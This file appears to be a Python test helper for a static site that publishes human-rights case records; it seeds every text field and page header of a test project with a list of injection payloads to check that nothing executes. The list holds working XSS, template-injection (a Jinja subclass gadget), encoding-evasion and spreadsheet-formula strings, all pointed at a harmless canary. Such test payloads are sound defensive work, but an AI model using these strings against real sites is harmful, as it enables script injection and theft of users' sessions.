"""Texts that try to be more than texts, put into every text of a project: for tests that nothing comes of it."""

from __future__ import annotations

import json
import types
from collections import Counter
from collections.abc import Iterator, Mapping
from copy import deepcopy
from pathlib import Path
from typing import Annotated, Any, Union, get_args, get_origin

import yaml
from builders import make_case, make_publication, text
from msgspec.structs import fields
from pictures import write_picture
from sites import FIXTURE, SITE_URL, make_project

from generator.records.campaigns import Campaign
from generator.records.fields import Line, LocalText
from generator.records.indicator_files import IndicatorsData
from generator.records.law import Law
from generator.records.mechanism import MeasureTypes
from generator.records.mechanism_files import (
    CommitmentsData,
    LandmarksData,
    MonitorsData,
    OrgansData,
    PathData,
    SeriesData,
    SourcesData,
    StatesData,
)
from generator.records.models import Case
from generator.records.observance_files import CalendarData
from generator.records.record import Record
from generator.records.strict_yaml import parse_document

_RUN = "window.canary=1;alert(1)"

# ruff: noqa: RUF001 - letters that look like others are what some of them are about
PAYLOADS = (
    # elements
    f"<script>{_RUN}</script>",
    "<script src=//canary.invalid/x.js></script>",
    "<ScRiPt/x>window.canary=1</sCrIpT>",
    "<script type=module>import('//canary.invalid/m.js')</script>",
    "<img src=canary.png onerror=window.canary=1>",
    "<img src=x onerror='window.canary=1' data-canary>",
    "<image src=//canary.invalid/i.png>",
    f"<svg onload={_RUN}>",
    "<svg><script>window.canary=1</script></svg>",
    "<svg><animate onbegin=window.canary=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.canary=1>#x'/></svg>",
    "<svg><a xlink:href='javascript:window.canary=1'><text y=9>x</text></a></svg>",
    "<svg><style>@import '//canary.invalid/s.css';</style></svg>",
    "<math><mtext></mtext><a xlink:href=javascript:window.canary=1>x</a></math>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<iframe src=javascript:parent.canary=1></iframe>",
    "<object data=//canary.invalid/o></object>",
    "<embed src=//canary.invalid/e>",
    "<link rel=stylesheet href=//canary.invalid/l.css>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/r'>",
    "<base href=//canary.invalid/>",
    "<style>*{background:url(//canary.invalid/b)}</style>",
    "<form action=//canary.invalid/f><button formaction=javascript:window.canary=1>x</button></form>",
    "<input autofocus onfocus=window.canary=1>",
    "<details open ontoggle=window.canary=1>",
    "<video><source onerror=window.canary=1></video>",
    "<audio src=//canary.invalid/a autoplay></audio>",
    "<body onload=window.canary=1>",
    "<marquee onstart=window.canary=1>x</marquee>",
    "<a href=javascript:window.canary=1 data-canary>x</a>",
    "<a href='data:text/html,<script>opener.canary=1</script>'>x</a>",
    "<template><img src=x onerror=window.canary=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.canary=1>'></noscript>",
    "<canary-element data-canary=1>",
    # leaving where they are
    '"><script>window.canary=1</script>',
    "'><script>window.canary=1</script>",
    '" onmouseover="window.canary=1" data-canary="',
    "' onfocus='window.canary=1' autofocus data-canary='",
    "` onerror=`window.canary=1` data-canary=`",
    "--><script>window.canary=1</script><!--",
    "]]><script>window.canary=1</script><![CDATA[",
    "</title><script>window.canary=1</script>",
    "</textarea><script>window.canary=1</script>",
    "</style><script>window.canary=1</script><style>",
    "</script><script>window.canary=1</script>",
    "</script><!--<script>window.canary=1",
    "</article></main><script>window.canary=1</script><article>",
    "</text></svg><script>window.canary=1</script>",
    "</iframe></blockquote></code></pre><img src=x onerror=window.canary=1>",
    # programs of other kinds
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# canary #}{% raw %}{{ canary }}",
    '{{ indicator("impunity_share").known }}',
    "${window.canary=1} #{canary} <%= canary %> @@v:csp@@ @@v:article@@ @@v:head@@",
    "[x](javascript:window.canary=1) ![x](//canary.invalid/m.png) <javascript:window.canary=1>",
    "[x]: //canary.invalid/d\n\n# canary\n\n{: onclick=window.canary=1 data-canary=1 }",
    "<div markdown=1 onclick=window.canary=1>*x*</div>",
    "\\u003cscript\\u003ewindow.canary=1\\u003c/script\\u003e \\x3cscript\\x3ewindow.canary=1",
    "&lt;script&gt;window.canary=1&lt;/script&gt; &#60;img src=x onerror=window.canary=1&#62;",
    "%3Cscript%3Ewindow.canary=1%3C/script%3E",
    "＜script＞window.canary=1＜/script＞ ‹img onerror=window.canary=1›",
    "+ADw-script+AD4-window.canary=1+ADw-/script+AD4-",
    '=HYPERLINK("//canary.invalid/";"x") @SUM(1+1)*cmd|\' /C calc\'!A0',
    'BEGIN:VEVENT\nSUMMARY:canary\\nEND:VEVENT;X="Y",Z:W',
    "}, canary = {x} @misc{canary, title={\\input{x}}} % $x$ TY  - BOOK",
    '","canary":"1"}],"x":[{"y":"',
    "window.canary=1//';window.canary=1//\";window.canary=1//`",
    "<p/onclick=window.canary=1 style=animation-name:x onanimationstart=window.canary=1 data-canary>x",
)

HOSTILE = "MX-9101"
COPIES = 4
"""How many hostile cases there are: each text holds a share of the payloads, all texts of a field all of them."""

NOT_FREE = {
    *("Victim.others", "Collective.size", "Indicator.sources"),
    *("Case.allowed_texts", "Campaign.allowed_texts"),
}
"""Lines that hold a number, the name of something else, or words of another text that are never published."""

_FILES: Mapping[str, Any] = {
    "campaigns/que-se-miren.yml": Campaign,
    "indicators.yml": IndicatorsData,
    "calendar.yml": CalendarData,
    "mechanism/law.yml": Law,
    "mechanism/measure_types.yml": MeasureTypes,
    "mechanism/organs.yml": OrgansData,
    "mechanism/commitments.yml": CommitmentsData,
    "mechanism/indicators.yml": SeriesData,
    "mechanism/landmarks.yml": LandmarksData,
    "mechanism/monitors.yml": MonitorsData,
    "mechanism/path.yml": PathData,
    "mechanism/states.yml": StatesData,
    "mechanism/sources.yml": SourcesData,
}
_LINE = get_args(Line)[-1]
_COLLECTIVE = {
    "id": "grupo",
    "kind": "organisation",
    "name": {"es": "Grupo", "en": "Group"},
    "about": {"es": "Un grupo.", "en": "A group."},
    "people": {"es": "pueblo", "en": "people"},
    "roles": ["human_rights_defender"],
}
_FINAL = {
    "id": "p1-9",
    "date": "2017",
    "stage": "final",
    "outcome": "conviction",
    "accused": ["x1"],
    "according_to": "court",
    "sources": ["s5"],
}


class Filler:
    """Puts payloads into every text of documents, so that all texts of a field together hold all of them."""

    def __init__(self) -> None:
        """Begin with nothing counted."""
        self.places: Counter[str] = Counter()
        """Field → how many texts of it there are."""
        self.pairs: set[tuple[str, int]] = set()
        """Which payload was put into which field."""
        self._used: Counter[str] = Counter()

    def count(self, kind: Any, value: Any) -> None:
        """Count the texts of a document by field."""
        for field, *_ in find_texts(kind, value):
            self.places[field] += 1

    def fill(self, kind: Any, value: Any) -> None:
        """Put the next payloads of each field into the texts of a document."""
        for field, holder, key in find_texts(kind, value):
            if field in NOT_FREE:
                continue
            share = -(-len(PAYLOADS) // self.places[field])
            numbers = [(self._used[field] + n) % len(PAYLOADS) for n in range(share)]
            self._used[field] += share
            self.pairs |= {(field, number) for number in numbers}
            texts = [PAYLOADS[number] for number in numbers]
            if isinstance(holder[key], dict):
                holder[key] = {code: "\n\n".join([text, *texts]) for code, text in holder[key].items()}
            else:
                holder[key] = " ".join([str(holder[key]), *texts])


def find_texts(kind: Any, value: Any, name: str = "") -> Iterator[tuple[str, Any, Any]]:
    """Yield the field of every free text in a document, with what holds it and under which key."""
    for field, (holder, key), inner in _list_children(kind, value, name):
        if _is_text(inner):
            yield field, holder, key
        else:
            yield from find_texts(inner, holder[key], field)


def _list_children(kind: Any, value: Any, name: str) -> Iterator[tuple[str, tuple[Any, Any], Any]]:
    kind = _unwrap(kind)
    if isinstance(kind, type) and issubclass(kind, Record) and isinstance(value, dict):
        for field in fields(kind):
            key = field.encode_name
            if value.get(key) is not None:
                yield f"{kind.__name__}.{field.name}", (value, key), field.type
    elif get_origin(kind) is tuple and isinstance(value, list):
        yield from ((name, (value, index), get_args(kind)[0]) for index in range(len(value)))
    elif get_origin(kind) in {dict, Mapping} and isinstance(value, dict):
        yield from ((name, (value, key), get_args(kind)[1]) for key in value)


def _unwrap(kind: Any) -> Any:
    """Return a type without what may be absent and, where it is no line, without its checks."""
    if get_origin(kind) in {Union, types.UnionType}:
        return _unwrap(next(one for one in get_args(kind) if one is not type(None)))
    return _unwrap(get_args(kind)[0]) if get_origin(kind) is Annotated and not _is_text(kind) else kind


def _is_text(kind: Any) -> bool:
    if get_origin(kind) in {Union, types.UnionType}:
        return any(_is_text(one) for one in get_args(kind))
    if kind is LocalText:
        return True
    return get_origin(kind) is Annotated and _LINE in get_args(kind)[1:]


def list_fields(kind: Any, seen: set[Any] | None = None) -> set[str]:
    """Return the names of all fields of free text that a kind of document can have."""
    seen = set() if seen is None else seen
    kind = _unwrap(kind)
    if isinstance(kind, type) and issubclass(kind, Record):
        if kind in seen:
            return set()
        seen.add(kind)
        found: set[str] = set()
        for field in fields(kind):
            inner = field.type
            texts = [inner, *(get_args(_unwrap(inner)) if get_origin(_unwrap(inner)) is tuple else ())]
            found |= {f"{kind.__name__}.{field.name}"} if any(map(_is_text, texts)) else list_fields(inner, seen)
        return found
    return set().union(*(list_fields(one, seen) for one in get_args(kind))) if get_args(kind) else set()


def list_kinds() -> tuple[Any, ...]:
    """Return the kinds of document that hold texts."""
    return (Case, *_FILES.values())


def make_hostile_project(root: Path) -> Filler:
    """Make a project all of whose texts are hostile, and return what was put where."""
    project, filler = make_project(root, site_url=SITE_URL), Filler()
    content = project / "content"
    documents: dict[Path, tuple[Any, Any]] = {
        content / name: (kind, _read(content / name)) for name, kind in _FILES.items()
    }
    for number in range(COPIES):
        case = _read(FIXTURE / "cases" / "ximena-quimera.yml")
        case |= {"id": f"{HOSTILE[:-1]}{number + 1}", "slug": f"ximena-{number}", "former_slugs": [], "related": []}
        case["collectives"] = [deepcopy(_COLLECTIVE)]
        case["proceedings"][0]["accused"][0]["name"] = "Culpable"
        case["proceedings"][0]["steps"].append(deepcopy(_FINAL))
        documents[project / "cases" / f"ximena-{number}.yml"] = (Case, case)
    documents[project / "cases" / "alguien-mas.yml"] = (Case, _make_local_case())
    documents[project / "cases" / "con-imagen.yml"] = (Case, _make_pictured_case())
    write_picture(project / "cases" / "images" / "mx-9106-1.jpg", "CANARY-EXIF")
    documents[content / "campaigns" / "que-se-miren.yml"][1]["cases"] += [
        {"case": f"{HOSTILE[:-1]}{number + 1}"} for number in range(COPIES)
    ]
    for kind, value in documents.values():
        filler.count(kind, value)
    for path, (kind, value) in documents.items():
        filler.fill(kind, value)
        path.write_text(json.dumps(value, ensure_ascii=False), encoding="utf-8")
    _fill_prose(content, filler)
    return filler


def _make_local_case() -> Any:
    """Return a case that may say its locality, as it names nobody."""
    case = _read(FIXTURE / "cases" / "alguien-del-valle.yml")
    del case["people"][0]["name"]
    case |= {"id": f"{HOSTILE[:-1]}{COPIES + 1}", "slug": "alguien-mas"}
    case["place"] |= {"locality": "Paraje"}
    case["publication"]["consent"]["uses"] = ["place", "locality"]
    return case


def _make_pictured_case() -> Any:
    """Return a case with a picture, which nobody at risk may have beside a name."""
    image = {"id": "i1", "file": "mx-9106-1.jpg", "shows": ["ana"], "alt": text("Un dibujo.", "A drawing."),
             "credit": "Nadie", "licence": "CC BY 4.0", "sources": ["s1"], "faces_cleared": True}  # fmt: skip
    publication = make_publication("named_with_image", ("name", "place", "image"))
    return make_case(
        id="MX-9106", slug="con-imagen", images=[image], publication=publication, last_checked="2026-06-30"
    )


def _read(path: Path) -> Any:
    """Return what a file holds, read as the site reads it."""
    document, problems = parse_document(path.read_bytes(), path.name)
    assert document is not None, problems
    return document.value


def _fill_prose(content: Path, filler: Filler) -> None:
    """Put payloads into the front matter of all pages of prose."""
    for number, path in enumerate(sorted(content.glob("*/**/*.md"))):
        head, front, body = path.read_text(encoding="utf-8").split("---\n", 2)
        data = yaml.safe_load(front)
        for step, name in enumerate(("title", "description", "label")):
            index = (number * 3 + step) % len(PAYLOADS)
            data[name] = f"{data.get(name, '')} {PAYLOADS[index]}"
            filler.pairs.add((f"page.{name}", index))
        path.write_text(f"{head}---\n{json.dumps(data)}\n---\n{body}", encoding="utf-8")
